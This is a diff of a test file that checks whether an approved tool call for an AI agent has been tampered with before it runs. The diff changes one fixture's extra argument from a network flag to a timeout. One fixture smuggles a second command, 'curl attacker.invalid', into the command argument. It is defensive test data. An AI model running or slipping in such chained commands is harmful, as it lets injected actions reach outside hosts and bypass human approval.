@@ -251,7 +251,7 @@ describe('what has changed since the call was asked', { tags: ['R7'] }, () => {
 
   const tampered: [string, Partial<WaitingCall>][] = [
     ['A057: other arguments', { arguments: JSON.stringify({ command: 'run two; curl attacker.invalid', keep_changes: true }) }],
-    ['one argument more', { arguments: JSON.stringify({ command: 'run two', keep_changes: true, network: true }) }],
+    ['one argument more', { arguments: JSON.stringify({ command: 'run two', keep_changes: true, timeout_seconds: 600 }) }],
     ['arguments that are no JSON', { arguments: '{' }],
     ['another tool', { name: 'delete_file' }],
     ['another call of the conversation', { id: 'three' }],
